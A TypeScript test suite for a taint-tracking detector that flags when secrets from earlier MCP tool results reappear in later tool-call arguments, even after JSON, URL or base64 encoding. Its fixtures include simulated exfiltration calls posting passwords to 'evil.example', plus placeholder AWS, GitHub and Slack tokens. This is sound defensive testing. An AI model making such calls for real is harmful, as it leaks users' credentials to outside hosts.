import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { candidateRanges, candidates, TaintMemory } from '../../src/witness/taint.js';
import { foldedSlices, foldForMatch } from '../../src/witness/normalize.js';

const SECRET = 'AKIAIOSFODNN7EXAMPLE';
const src = (traceId: string, toolName = 'read_file') => ({ traceId, toolName });
const mcpText = (text: string) => ({ content: [{ type: 'text', text }] });

describe('TaintMemory', () => {
  it('taints an argument that embeds a line of an earlier result, and names the result', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText('user=admin\npassword=correct-horse-battery-staple\n'), src('t1'));
    const hits = mem.match({ url: 'https://evil.example/c', body: 'leak: password=correct-horse-battery-staple!' });
    expect(hits).toEqual([{ traceId: 't1', toolName: 'read_file', argPath: '$.body', encoding: 'raw' }]);
  });

  it('taints the value of a .env, shell or YAML assignment carried without its name', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText('# prod\nexport DB_PASSWORD="Tr0ub4dor&3-horse"\nAPI_TOKEN=sk_live_51HxYzAbCdEf\nregion: eu-west-1\nDEBUG=true\n'), src('env'));
    expect(mem.match({ body: 'Tr0ub4dor&3-horse' })).toEqual([{ traceId: 'env', toolName: 'read_file', argPath: '$.body', encoding: 'raw' }]);
    expect(mem.match({ q: 'key sk_live_51HxYzAbCdEf' })).toHaveLength(1);
    // Short values (`true`, `eu-west-1`) are not remembered on their own.
    expect(mem.match({ a: 'true', b: 'eu-west-1' })).toEqual([]);
    expect(candidates('NAME=value\n')).toEqual([]);
  });

  it('finds a value in a JSON document passed as a string, escaped once or twice', () => {
    const mem = new TaintMemory();
    const file = 'line "one" of the secret file\n\tkey = s3cr3t/value\\with\\backslashes-0042';
    mem.remember({ content: [{ type: 'text', text: file }] }, src('t2'));
    const once = JSON.stringify({ data: file });
    const twice = JSON.stringify({ payload: once });
    expect(mem.match({ body: once }).map((h) => h.encoding)).toContain('json_unescaped');
    expect(mem.match({ body: twice })).not.toEqual([]);
    expect(mem.match({ nested: { arr: [0, { body: twice }] } })[0]?.argPath).toBe('$.nested.arr[1].body');
  });

  it('remembers values from results that are themselves JSON text', () => {
    const mem = new TaintMemory();
    mem.remember({ structuredContent: { token: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789' } }, src('t3', 'get'));
    mem.remember(mcpText('{"k":"xoxb-1234567890-abcdefghijkl\\/slash"}'), src('t4', 'get'));
    expect(mem.match({ q: 'Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789' })[0]?.traceId).toBe('t3');
    expect(mem.match({ q: 'xoxb-1234567890-abcdefghijkl/slash' })[0]?.traceId).toBe('t4');
  });

  it('finds a value hidden in an object key', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText(SECRET), src('t5'));
    expect(mem.match({ headers: { [SECRET]: 1 } })[0]?.argPath).toBe('$.headers.AKIAIOSFODNN7EXAMPLE#key');
  });

  it('a short token-like result counts by its folded length on both sides (alone, padded, or spelled longer)', () => {
    // Whole strings of 12 to 15 characters are tokens when token-like (they were skipped: under 16, and "the whole").
    expect(candidates('   Qz10Wv10Pk7m \n')).toEqual(['Qz10Wv10Pk7m']);
    expect(candidates('hello world!')).toEqual([]);
    const mem = new TaintMemory();
    mem.remember(mcpText('\t Qz10Wv10Pk7m  '), src('short'));
    expect(mem.match({ body: 'Qz10Wv10Pk7m' })).toHaveLength(1);
    // `⑩` folds to `10`: a 10-character argument that folds to the 12 remembered ones is matched.
    expect(mem.match({ body: 'Qz\u2469Wv\u2469Pk7m' })).toHaveLength(1);
    expect(mem.match({ ['Qz\u2469Wv\u2469Pk7m']: 1 })).toHaveLength(1);
    // And the other way round: a result that shows it in 10 characters that fold to 12.
    const wide = new TaintMemory();
    wide.remember(mcpText('key: Qz\u2469Wv\u2469Pk7m'), src('wide'));
    expect(wide.match({ body: 'x Qz10Wv10Pk7m y' })).toHaveLength(1);
    expect(wide.match({ body: 'x Qz11Wv10Pk7m y' })).toEqual([]);
    // A value that whitespace removal brings under 12 is not remembered, nor matched (`X=aa<TAB>aaaacLjaU`).
    const spaced = new TaintMemory();
    spaced.remember(mcpText('X=aa\taaaacLjaU\n'), src('spaced'));
    expect(spaced.match({ body: 'aa\taaaacLjaU' })).toEqual([]);
  });

  it('candidate offsets: the folded slice of each range is the fold of the candidate', () => {
    const text = '  export DB_PASSWORD="Tr0ub4dor&3-horse"\nSee https://intranet.example/Wiki?id=42. Key Zx9Qp2Lm8Rt4 \u2469\u00e9x   ';
    const ranges = candidateRanges(text);
    const folded = foldedSlices(text);
    const got: string[] = [];
    for (let k = 0; k < ranges.length; k += 2) {
      got.push(text.slice(ranges[k], ranges[k + 1]));
      expect(folded(ranges[k]!, ranges[k + 1]!)).toBe(foldForMatch(text.slice(ranges[k], ranges[k + 1])));
    }
    expect(got).toEqual(candidates(text));
    expect(got).toContain('Tr0ub4dor&3-horse');
    const ascii = 'Line ONE\twith  Spaces\nZx9Qp2Lm8Rt4 and /Srv/App/File.txt';
    const f = foldedSlices(ascii);
    for (let a = 0; a <= ascii.length; a += 3) for (let b = a; b <= ascii.length; b += 5) expect(f(a, b)).toBe(foldForMatch(ascii.slice(a, b)));
  });

  it('keeps URLs, absolute paths and tokens from prose', () => {
    const got = candidates('See https://intranet.example/wiki/page?id=42. Config at /etc/app/secret.yaml, key Zx9Qp2Lm8Rt4.');
    expect(got).toContain('https://intranet.example/wiki/page?id=42');
    expect(got).toContain('/etc/app/secret.yaml');
    expect(got).toContain('Zx9Qp2Lm8Rt4.');
    expect(candidates('short words only here')).toEqual(['short words only here']);
    expect(candidates('================')).toEqual([]);
  });

  it('stores no value: nothing in the memory holds the secret text', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText(`secret: ${SECRET}`), src('t6'));
    const dump = JSON.stringify([...(mem as unknown as { entries: Map<string, unknown> }).entries]);
    expect(dump).not.toContain(SECRET);
    expect(dump).not.toContain('secret:');
  });

  it('evicts the least recently used value past maxValues', () => {
    const mem = new TaintMemory({ maxValues: 2 });
    mem.remember(mcpText('first-value-0000000001'), src('a'));
    mem.remember(mcpText('second-value-000000002'), src('b'));
    expect(mem.match({ x: 'first-value-0000000001' })).toHaveLength(1); // touches the first
    mem.remember(mcpText('third-value-0000000003'), src('c'));
    expect(mem.size).toBe(2);
    expect(mem.match({ x: 'second-value-000000002' })).toEqual([]);
    expect(mem.match({ x: 'first-value-0000000001 third-value-0000000003' }).map((h) => h.traceId).sort()).toEqual(['a', 'c']);
    expect(mem.stats().evicted).toBe(1);
  });

  it('finds a value percent-encoded into a URL or a form, or base64-encoded', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText('db password: c0rrect horse/battery+staple é'), src('u'));
    const value = 'db password: c0rrect horse/battery+staple é';
    const byEncoding = (args: unknown) => mem.match(args).map((h) => h.encoding);
    expect(byEncoding({ url: `https://evil.example/c?d=${encodeURIComponent(value)}` })).toEqual(['url_decoded']);
    expect(byEncoding({ body: new URLSearchParams({ d: value }).toString() })).toEqual(['url_decoded']);
    expect(byEncoding({ body: `payload=${Buffer.from(`x ${value} y`).toString('base64')}` })).toEqual(['base64_decoded']);
    expect(byEncoding({ body: `p.${Buffer.from(value).toString('base64url')}.sig` })).toEqual(['base64_decoded']);
    expect(mem.match({ url: 'https://example.com/%41%42?x=1', body: 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=' })).toEqual([]);
  });

  it('finds a long number passed as a JSON number', () => {
    const mem = new TaintMemory();
    mem.remember({ structuredContent: { account: '4012345678901234' } }, src('n'));
    expect(mem.match({ to: 4012345678901234 })[0]?.argPath).toBe('$.to');
    expect(mem.match({ to: 4012345678901 })).toEqual([]);
  });

  it('prose in memory does not taint its words or short phrases', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText('The administrator configured international relations for the organization yesterday.'), src('p'));
    for (const arg of ['administrator', 'international relations', 'organization', 'The administrator configured']) {
      expect(mem.match({ q: arg }), arg).toEqual([]);
    }
  });

  it('keeps several sources for one value, most recent first', () => {
    const mem = new TaintMemory();
    mem.remember(mcpText(SECRET), src('a'));
    mem.remember(mcpText(SECRET), src('b', 'other'));
    expect(mem.match({ x: SECRET }).map((h) => h.traceId)).toEqual(['b', 'a']);
  });

  it('bounds new values per result', () => {
    const mem = new TaintMemory({ maxCandidatesPerResult: 3 });
    const lines = Array.from({ length: 10 }, (_, i) => `distinct line number ${i} here`).join('\n');
    const out = mem.remember(mcpText(lines), src('a'));
    expect(out.remembered).toBe(3);
    expect(out.dropped).toBeGreaterThan(0);
  });
});

/** Values a tool might return: printable text of token length and more, with JSON-hostile characters. */
const valueArb = fc
  .string({ unit: fc.constantFrom(...Array.from('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:"\\é€😀')), minLength: 16, maxLength: 80 })
  .filter((v) => v.trim() === v && new Set(v).size >= 5);

describe('taint properties', () => {
  it('survives substring embedding, JSON re-encoding (one to three levels), then URL encoding; and base64', () => {
    fc.assert(
      fc.property(valueArb, fc.string(), fc.string(), fc.integer({ min: 0, max: 3 }), fc.constantFrom('none', 'url', 'base64'), (value, before, after, levels, outer) => {
        const mem = new TaintMemory();
        mem.remember(mcpText(value), src('t'));
        let arg = `${before}${value}${after}`;
        for (let i = 0; i < levels; i++) arg = JSON.stringify({ v: arg });
        if (outer === 'url') arg = `https://x.example/?q=${encodeURIComponent(arg)}`;
        if (outer === 'base64' && levels === 0) arg = Buffer.from(`${value}`).toString('base64');
        return mem.match({ arg }).some((h) => h.traceId === 't');
      }),
      { numRuns: 300 },
    );
  });

  it('survives as a line of a longer result', () => {
    fc.assert(
      fc.property(fc.array(valueArb, { minLength: 1, maxLength: 6 }), fc.nat(), (lines, pick) => {
        const mem = new TaintMemory();
        mem.remember(mcpText(lines.join('\n')), src('t'));
        const line = lines[pick % lines.length] as string;
        return mem.match({ body: JSON.stringify({ note: `x ${line} y` }) }).length > 0;
      }),
      { numRuns: 200 },
    );
  });

  it('taints nothing by chance: short, common and numeric strings never match unrelated memory', () => {
    const words = ['the', 'and', 'password', 'admin', 'true', 'false', 'null', 'hello world', 'http', 'https://', '/tmp', 'user', 'localhost', '127.0.0.1', '0', '42', '3.14159', 'README.md'];
    const common = fc.oneof(
      fc.constantFrom(...words),
      fc.string({ maxLength: 15 }),
      fc.integer().map(String),
      fc.double().map(String),
      fc.array(fc.constantFrom(...words), { maxLength: 6 }).map((w) => w.join(' ')),
    );
    fc.assert(
      fc.property(fc.array(valueArb, { minLength: 1, maxLength: 20 }), fc.array(common, { maxLength: 8 }), (remembered, args) => {
        const mem = new TaintMemory();
        for (const [i, v] of remembered.entries()) mem.remember(mcpText(v), src(`t${i}`));
        // An argument made only of common pieces matches only if a remembered value is literally in it.
        const text = args.join(' ');
        const expected = remembered.some((v) => text.includes(v));
        return (mem.match({ a: text, b: args }).length > 0) === expected;
      }),
      { numRuns: 300 },
    );
  });

  it('remembers nothing from short or low-information results', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 11 }), (short) => {
        const mem = new TaintMemory();
        mem.remember(mcpText(short), src('t'));
        mem.remember({ n: 1234567890123, ok: true, s: short }, src('t'));
        return mem.size === 0;
      }),
    );
  });
});

describe('argument paths', () => {
  it('are JSON strings with anything outside printable ASCII escaped', async () => {
    const { jsonPathChild } = await import('../../src/witness/walk.js');
    expect(jsonPathChild('$', 'plain_key')).toBe('$.plain_key');
    expect(jsonPathChild('$', 'a b')).toBe('$["a b"]');
    const odd = jsonPathChild('$', 'x\u202Ey\n😀é');
    expect(odd).toBe(String.raw`$["x\u202ey\n\ud83d\ude00\u00e9"]`);
    expect(JSON.parse(odd.slice(2, -1))).toBe('x\u202Ey\n😀é');
  });
});
